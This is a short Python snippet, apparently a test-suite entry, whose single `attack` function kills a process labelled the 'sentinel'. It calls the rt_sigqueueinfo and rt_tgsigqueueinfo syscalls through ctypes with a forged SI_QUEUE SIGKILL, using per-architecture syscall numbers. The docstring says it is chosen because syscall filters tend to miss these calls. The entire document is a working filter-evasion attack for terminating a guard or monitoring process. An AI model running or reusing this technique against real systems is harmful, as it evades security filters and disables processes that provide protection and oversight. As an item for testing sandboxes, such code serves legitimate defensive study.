"""Ends another process by queued signals, whose calls filters tend to forget."""

import ctypes
import platform
import struct

CALLS = {"x86_64": (129, 297), "aarch64": (138, 240)}


def attack(A):
    pid, (queue, queue_to_thread) = TARGET["sentinel"], CALLS[platform.machine()]
    libc = ctypes.CDLL(None, use_errno=True)
    info = ctypes.create_string_buffer(struct.pack("<iiii", 9, 0, -1, 0), 128)  # SI_QUEUE
    libc.syscall(*map(ctypes.c_long, (queue, pid, 9)), info)
    libc.syscall(*map(ctypes.c_long, (queue_to_thread, pid, pid, 9)), info)
